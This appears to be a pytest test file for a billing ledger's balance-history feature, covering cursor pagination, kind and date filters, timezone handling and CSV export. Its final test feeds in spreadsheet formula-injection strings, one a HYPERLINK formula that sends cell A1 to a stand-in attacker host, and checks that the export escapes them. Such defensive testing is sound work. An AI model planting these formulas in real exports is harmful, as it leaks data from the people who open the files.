import csv
import io
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from app.errors import ValidationFailed
from app.services import balance_history, ledger
from tests.factories import make_account, owner_and_account

START = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def _fill(session, account, count, start=START):
    """A trial grant the day before, then one entry an hour: every fifth a purchase, the rest usage."""
    _credit(session, account, 10**6, "grant", "Free Trial Credits", f"{account.id}-trial", start - timedelta(days=1))
    for n in range(count):
        at = start + timedelta(hours=n)
        if n % 5 == 0:
            description = f"Stripe Payment Intent pi_{n}, via Add Usage Credits"
            _credit(session, account, 2500, "purchase", description, f"{account.id}-p{n}", at)
        else:
            ledger.debit(
                session,
                account_id=account.id,
                amount_cents=150,
                description="API usage",
                idempotency_key=f"{account.id}-u{n}",
                now=at,
            )
    session.commit()


def _credit(session, account, cents, source, description, key, at):
    ledger.credit(
        session,
        account_id=account.id,
        amount_cents=cents,
        source=source,
        description=description,
        idempotency_key=key,
        now=at,
    )


def _all_pages(session, account_id, **filters):
    ids, after, pages = [], None, 0
    while True:
        result = balance_history.page(session, account_id, after_id=after, **filters)
        ids += [row.id for row in result.rows]
        pages += 1
        if result.next_after_id is None:
            return ids, pages
        assert result.next_after_id == result.rows[-1].id
        after = result.next_after_id


def test_pages_cover_the_history_newest_first_without_gaps_or_duplicates(session):
    account, other = make_account(session), make_account(session, "Other Ltd")
    _fill(session, account, 59)
    _fill(session, other, 5)
    ids, pages = _all_pages(session, account.id, limit=25)
    assert pages == 3
    assert len(ids) == 60 and len(set(ids)) == 60
    assert ids == sorted(ids, reverse=True)
    assert ledger.ledger_sum(session, account.id) == ledger.balance_of(session, account.id)


def test_a_full_last_page_says_there_is_no_next_page(session):
    account = make_account(session)
    _fill(session, account, 49)
    first = balance_history.page(session, account.id, limit=25)
    second = balance_history.page(session, account.id, after_id=first.next_after_id, limit=25)
    assert len(second.rows) == 25 and second.next_after_id is None
    assert balance_history.page(session, account.id, after_id=second.rows[-1].id).rows == []


def test_the_pages_url_cursors_go_forward_and_back_within_the_filter(session):
    """The page's URL carries the entry a page starts after (a public id): Next and Previous
    reach the same pages under a filter, and page 1 has no cursor."""
    actor, account = owner_and_account(session)
    _fill(session, account, 60)  # 48 usage entries: pages of 20, 20 and 8
    pages, after = [], ""
    while True:
        shown = balance_history.history_page(session, actor, after_id=after, kind="usage", limit=20)
        pages.append((after, [row.id for row in shown.rows]))
        if not shown.next_after:
            break
        after = shown.next_after
    assert [len(rows) for _, rows in pages] == [20, 20, 8]
    for (before, _), (start, _) in zip(pages, pages[1:], strict=False):
        assert balance_history.previous_after(session, actor, after_id=start, kind="usage", limit=20) == before


def test_filters_by_kind_and_utc_date_range(session):
    account = make_account(session)
    _fill(session, account, 72)  # 1 March 12:00 to 4 March 11:00
    purchases, _ = _all_pages(session, account.id, limit=4, sources=["purchase"])
    assert len(purchases) == 15
    credits = balance_history.page(session, account.id, limit=200, sources={"purchase", "grant"}).rows
    assert len(credits) == 16 and all(row.amount_cents > 0 for row in credits)
    march_2 = date(2026, 3, 2)
    day = balance_history.page(session, account.id, limit=200, date_from=march_2, date_to=march_2).rows
    assert len(day) == 24 and {row.created_at.date() for row in day} == {date(2026, 3, 2)}
    since, _ = _all_pages(session, account.id, limit=7, date_from=date(2026, 3, 3))
    assert len(since) == 24 + 12
    both = balance_history.page(
        session, account.id, limit=200, sources=["usage"], date_from=date(2026, 3, 1), date_to=date(2026, 3, 1)
    ).rows
    assert len(both) == 12 - 3 and {row.source for row in both} == {"usage"}


def test_bad_arguments_are_refused(session):
    account = make_account(session)
    for limit in (0, 201):
        with pytest.raises(ValidationFailed):
            balance_history.page(session, account.id, limit=limit)
    with pytest.raises(ValidationFailed):
        balance_history.page(session, account.id, sources=["bonus"])


def test_csv_export(session):
    account = make_account(session)
    _fill(session, account, 3)
    rows = list(csv.reader(io.StringIO(balance_history.export_csv(session, account.id))))
    assert rows[0] == ["Id", "Description", "Created Time", "Amount USD"]
    newest, middle, oldest, trial = rows[1:]
    assert newest[1:] == ["API usage", "2026-03-01T14:00:00Z", "-1.50"]
    assert middle[3] == "-1.50"
    assert oldest[1:] == ["Stripe Payment Intent pi_0, via Add Usage Credits", "2026-03-01T12:00:00Z", "25.00"]
    assert trial[1:] == ["Free Trial Credits", "2026-02-28T12:00:00Z", "10000.00"]
    assert all(row[0].startswith("txn_") for row in rows[1:])
    only_purchases = balance_history.export_csv(session, account.id, sources=["purchase"])
    assert only_purchases.count("\n") == 2 and "pi_0" in only_purchases
    empty = balance_history.export_csv(session, account.id, date_from=date(2027, 1, 1))
    assert empty == "Id,Description,Created Time,Amount USD\r\n"


def test_date_range_is_in_days_of_the_account_timezone(session):
    account = make_account(session)
    _fill(session, account, 72)  # 1 March 12:00 UTC onwards, one an hour
    tokyo = ZoneInfo("Asia/Tokyo")
    day = balance_history.page(
        session, account.id, limit=200, date_from=date(2026, 3, 2), date_to=date(2026, 3, 2), timezone="Asia/Tokyo"
    ).rows
    assert len(day) == 24
    assert {row.created_at.astimezone(tokyo).date() for row in day} == {date(2026, 3, 2)}
    assert min(row.created_at for row in day) == datetime(2026, 3, 1, 15, 0, tzinfo=UTC)
    exported = balance_history.export_csv(
        session, account.id, date_from=date(2026, 3, 2), date_to=date(2026, 3, 2), timezone="Asia/Tokyo"
    )
    assert len(exported.strip().splitlines()) == 1 + 24
    # The CSV's times are the page's: in the account's timezone, with the offset.
    newest = list(csv.reader(io.StringIO(exported)))[1]
    assert newest[2] == "2026-03-02T23:00:00+09:00"


def test_csv_export_neutralizes_formulas(session):
    """A description from the operator's product is written as text a spreadsheet never runs."""
    account = make_account(session)
    _credit(session, account, 10**6, "grant", "Free Trial Credits", f"{account.id}-trial", START)
    descriptions = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok"]
    for n, description in enumerate(descriptions):
        ledger.debit(
            session,
            account_id=account.id,
            amount_cents=150,
            description=description,
            idempotency_key=f"{account.id}-f{n}",
            now=START + timedelta(minutes=n + 1),
        )
    session.commit()
    rows = list(csv.reader(io.StringIO(balance_history.export_csv(session, account.id), newline="")))
    exported = [row[1] for row in reversed(rows[1:-1])]
    assert exported == ["'" + text for text in descriptions[:-1]] + ["ok"]
    assert {row[3] for row in rows[1:-1]} == {"-1.50"}
